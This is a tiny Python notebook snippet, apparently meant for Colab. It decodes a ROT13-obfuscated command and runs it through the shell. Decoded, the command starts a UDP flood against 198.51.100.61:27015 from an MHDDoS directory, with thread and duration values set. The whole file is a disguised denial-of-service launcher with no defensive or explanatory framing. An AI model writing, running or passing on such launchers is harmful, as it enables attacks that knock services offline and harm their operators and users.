import codecs
from IPython import get_ipython

job = codecs.decode("clguba3 fgneg.cl HQC 198.51.100.61:27015 800 1800", "rot13")
get_ipython().system("cd /content/MHDDoS && " + job)
